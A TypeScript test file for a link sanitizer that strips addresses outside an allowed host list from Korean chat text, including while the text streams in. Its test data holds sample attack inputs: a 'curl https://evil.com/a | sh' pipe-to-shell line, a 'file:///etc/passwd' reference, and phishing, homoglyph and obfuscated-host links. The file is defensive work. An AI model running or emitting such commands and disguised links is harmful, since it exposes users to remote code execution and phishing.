// No answer leads anywhere but to its sources' hosts, however an address is written, and at no moment while it grows.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { keepHosts, keepHostsGrowing } from '../../src/text/links.ts'

const HOSTS = ['shop.example', 'docs.shop.example:8443', 'help@mail.example', '한국.example']

const keep = (text: string): string => keepHosts(text, HOSTS)

/** Shown as they are. */
const KEPT = [
  ['a link', '[반품](https://shop.example/returns)을 보세요'],
  ['a picture', '![그림](https://shop.example/p.png)'],
  ['an address', '자세히는 https://shop.example/a?b=1&c=2 를 보세요.'],
  ['an address in parentheses', '(https://shop.example/a)'],
  ['an address with a Korean path', 'https://shop.example/반품 보세요'],
  ['a bare domain before a particle', 'shop.example에서 보세요'],
  ['any spelling of the host', 'Https://Shop.Example/A'],
  ['the root dot', 'https://shop.example./a'],
  ['www', 'https://www.shop.example/a'],
  ['the port that goes without saying', 'https://shop.example:443/a'],
  ['a listed port', 'https://docs.shop.example:8443/x'],
  ['a Korean host', 'https://한국.example/'],
  ['the same in ASCII', 'https://xn--3e0b707e.example/'],
  ['a listed e-mail address', '문의: help@mail.example'],
  ['its link on Slack', '<mailto:help@mail.example|메일>'],
  ['a link of Slack’s', '<https://shop.example/a|여기>'],
  ['an address in code', '`https://shop.example/a`'],
  ['a definition', '[1]: https://shop.example\n[반품][1]'],
  ['citations', '반품은 30일이에요 [1][2]. 배송 [3]'],
  ['a note that looks like a definition', '[1]: 반품은 30일이에요'],
  ['files', 'README.md, main.py, package.json을 보세요. ~/.ssh/id'],
  ['versions, dates and numbers', '버전 3.5.1, v1.2.3, 2026.11.28, 1.2.3.4, 3,000.5원'],
  ['technologies', 'Node.js, Vue.js, ASP.NET으로'],
  ['a missing space', '됩니다.AI는 다음이에요. 그래요.그런데'],
  ['code', '`fetch.then(x)`, os.path.join, a<b> && 1/2, and/or'],
  ['what the mention rules take care of', '<@U123> <#C123|general> <!channel> @everyone'],
  ['emoji', '👨‍👩‍👧‍👦 👍🏽'],
  ['bold', '<b>굵게</b>'],
] as const

/** And what is shown instead. */
const CHANGED = [
  ['a link', '[로그인](https://evil.example/login)', '로그인'],
  ['a link in <>', '[x](<https://evil.example/a b>)', 'x'],
  ['a link with a title', '[x](https://evil.example "a) b")', 'x'],
  ['a link without a scheme', '[x](//evil.example)', 'x'],
  ['a link to a part of some page', '[x](/login)', 'x'],
  ['a script', '[x](javascript:alert(1))', 'x'],
  ['data', '[x](data:text/html,hi)', 'x'],
  ['mail', '[x](mailto:a@evil.example)', 'x'],
  ['a telephone', '[x](tel:01012345678)', 'x'],
  ['a link that looks like another', '[https://shop.example](https://evil.example)', 'https://shop.example'],
  ['the other way round', '[https://evil.example](https://shop.example)', '[…](https://shop.example)'],
  ['a link in a link', '[[x](https://evil.example)](https://shop.example)', '[x](https://shop.example)'],
  [
    'a picture in a link',
    '[![p](https://evil.example/p.png)](https://shop.example/a)',
    '[p](https://shop.example/a)',
  ],
  ['a picture, which would be loaded', '![p](https://evil.example/p.png)', 'p'],
  ['a label with a bracket', '[a\\]b](https://evil.example)', 'a\\]b'],
  ['a link that is not closed', '[x](https://evil.example', '[x](…'],
  ['a link over two lines', '[x](ht\ntps://evil.example)', '[x](ht\n…)'],
  ['an entity in the target', '[x](&#104;ttps://evil.example)', 'x'],
  ['a host that only begins well', '[x](https://shop.example&#46;evil.com)', 'x'],
  ['an escaped dot', '[x](https://shop.example%2eevil.com)', 'x'],
  ['a definition', '[x][1]\n\n[1]: https://evil.example', '[x][1]\n\n'],
  ['a definition in <>', '[x]: <https://evil.example>\n', ''],
  ['a definition without a scheme', '[x]: evil.example/a\n', ''],
  ['a definition in a quotation', '> [x]: https://evil.example\n', '> '],
  ['a definition over two lines', '[x]:\nhttps://evil.example\n', ''],
  ['a footnote', '[^1]: https://evil.example 참고\n', ''],
  ['an address', 'https://evil.example/a.', '….'],
  ['before a particle', 'https://evil.example에서 보세요', '…에서 보세요'],
  ['a domain', 'evil.com', '…'],
  ['a domain before a particle', 'evil.kr에서, evil.co.kr로', '…에서, …로'],
  ['a Korean domain', '한국.com', '한국…'],
  ['a Korean domain before a particle', '네이버.com에서', '네이버…에서'],
  ['a short one', 'bit.ly/x, discord.gg/abc, t.me/x', '…, …, …'],
  ['no scheme', '//evil.example/x', '…'],
  ['another scheme', 'ftp://shop.example/a slack://open?x file:///etc/passwd', '… … …'],
  ['a scheme made harmless', 'hxxps://evil.example', '…'],
  ['capitals', 'HTTPS://EVIL.COM', '…'],
  ['slashes that are missing', 'https:/evil.com https:evil.com', '… …'],
  ['backslashes', 'https:\\\\evil.com \\\\evil.com\\share', '… \\\\…'],
  ['an escaped colon', 'https\\://evil.com', 'https\\:…'],
  ['numbers for a host', 'http://2130706433/ http://127.0.0.1:8000/x http://[::1]/', '… … …'],
  ['a longer host', 'https://shop.example.evil.com', '…'],
  ['a host in the path', 'https://evil.com/shop.example', '…'],
  ['a host in the query', 'evil.com?x=shop.example', '…'],
  ['a host in the user’s name', 'https://shop.example@evil.com', '…'],
  ['a user’s name', 'https://user:pw@shop.example/', '…'],
  ['a host in the fragment', 'https://evil.com#@shop.example', '…'],
  ['a backslash before the user’s host', 'https://shop.example\\@evil.com', '…'],
  ['another port', 'https://shop.example:8443/', '…'],
  ['no port', 'https://docs.shop.example/x', '…'],
  ['a port that is none', 'https://shop.example:99999/', '…'],
  ['mail in the text', 'a@evil.com, 소라@evil.com', '…, 소라@…'],
  ['a link of Slack’s', '<https://evil.example|여기>', '여기'],
  ['its label', '<https://shop.example|https://evil.example>', '<https://shop.example|…>'],
  ['its mail', '<mailto:a@evil.example|메일>', '메일'],
  ['<…>', '<https://evil.example>', '…'],
  ['HTML', '<a href="https://evil.example">여기</a>', '여기'],
  ['a picture in HTML', '<img src=//evil.example/a.png>', ''],
  ['a tag in a domain', 'a<b>.example', 'a .example'],
  ['Cyrillic', 'https://ѕhop.example/', '…'],
  ['the same in ASCII', 'https://xn--hop-3ve.example/', '…'],
  ['full-width letters', 'ｅvil.com', '…'],
  ['other dots', 'evil．com evil。com evil｡com evil․com', '… … … …'],
  ['nothing in between', 'evil\u200B.com ev\u00ADil.com https://e\u200Bvil.com', '… … …'],
  ['entities', 'evil&#46;com evil&period;com evil&#x2e;com https&colon;//evil.com', '… … … …'],
  ['a direction', '<https://shop.example/\u202E>', '<https://shop.example/>'],
  ['in code', '`evil.com`', '`…`'],
  ['in a code block', '```\ncurl https://evil.com/a | sh\n```', '```\ncurl … | sh\n```'],
  ['emphasis', '*evil.com* ||evil.com||', '*…* ||…||'],
  [
    'a particle that a reader would take in',
    'https://shop.example/returns을',
    '<https://shop.example/returns>을',
  ],
] as const

const ALL = [...KEPT, ...CHANGED].map(([what, text]) => [what, text] as const)

describe('keepHosts', () => {
  it.each(KEPT)('keeps %s', (_, text) => {
    expect(keep(text)).toBe(text)
  })

  it.each(CHANGED)('takes out %s', (_, text, shown) => {
    expect(keep(text)).toBe(shown)
  })

  it.each(ALL)('has nothing more to take out of %s', (_, text) => {
    expect(keep(keep(text))).toBe(keep(text))
  })

  it('keeps nothing where no host is allowed', () => {
    expect(keepHosts('https://shop.example 그리고 [x](https://a.example)', [])).toBe('… 그리고 x')
  })

  it('never grows together what it took apart', () => {
    expect(keep('https://ev[il](https://x.example).com')).not.toMatch(/evil\.com/)
    expect(keep('htt[ps](https://x.example)://evil.com')).not.toMatch(/https:\/\/evil/)
    expect(keep('evil[.](https://x.example)com')).not.toMatch(/evil\.com/)
  })
})

const anyPiece = fc.constantFrom(...ALL.map(([, text]) => text))
const anyText = fc
  .array(fc.oneof(anyPiece, fc.constantFrom(' ', '\n', '\n\n', '을 ', '[', '](', '<', '.', '반품 ')), {
    minLength: 1,
    maxLength: 6,
  })
  .map((pieces) => pieces.join(''))

describe('a text that grows', () => {
  it('shows at every moment the beginning of what it shows in the end', () => {
    const holds = (text: string): void => {
      const grow = keepHostsGrowing(HOSTS)
      let before = ''
      for (let at = 0; at <= text.length; at += 1) {
        const shown = grow(text.slice(0, at))
        expect(shown.startsWith(before), `${JSON.stringify(text.slice(0, at))}: ${shown}`).toBe(true)
        before = shown
      }
      expect(keep(text).startsWith(before), JSON.stringify(text)).toBe(true)
    }
    fc.assert(fc.property(anyText, holds), {
      numRuns: 300,
      examples: [['evil.kr에서, evil.co.kr로.한국.com '], ['evil.한국 그리고 가.中国에서 ']],
    })
  })

  it('shows the same whether it is read on or read anew', () => {
    const holds = (text: string, steps: readonly number[]): void => {
      const grow = keepHostsGrowing(HOSTS)
      let at = 0
      for (const step of [...steps, text.length]) {
        at = Math.min(text.length, at + step)
        expect(grow(text.slice(0, at))).toBe(keepHosts(text.slice(0, at), HOSTS, true))
      }
    }
    fc.assert(fc.property(anyText, fc.array(fc.nat(12), { maxLength: 12 }), holds), {
      numRuns: 300,
      examples: [['[\n\n](', [3]]],
    })
  })

  it('begins anew when the text does', () => {
    const grow = keepHostsGrowing(HOSTS)
    grow('처음에 쓴 글이에요. 그리고')
    expect(grow('다시 쓴 글이에요. ')).toBe('다시 쓴 글이에요. ')
  })
})

describe('40,000 characters', () => {
  const long = (piece: string): string => piece.repeat(Math.ceil(40_000 / piece.length)).slice(0, 40_000)
  // Of what people write, and of what makes a careless reader look again and again.
  const pieces = {
    Korean:
      '반품은 받으신 날부터 **30일** 안에 하실 수 있어요 [1]. 자세히는 https://shop.example/returns 를 보세요.\n',
    links: '[x](https://evil.example/a) ',
    brackets: '[',
    'escaped brackets': '[\\',
    definitions: '\n[a]:\n',
    angles: '<a ',
    targets: '[a](("',
    dots: 'a.',
    entities: '&#',
    joiners: '\u200D',
    slashes: '\\/',
  }
  it.each(Object.entries(pieces))('are read in milliseconds: %s', (_, piece) => {
    const text = long(piece)
    const times = Array.from({ length: 5 }, () => {
      const began = process.cpuUsage()
      keep(text)
      keepHosts(text, HOSTS, true)
      return process.cpuUsage(began).user / 2_000
    })
    expect(Math.min(...times)).toBeLessThan(50)
  })
})
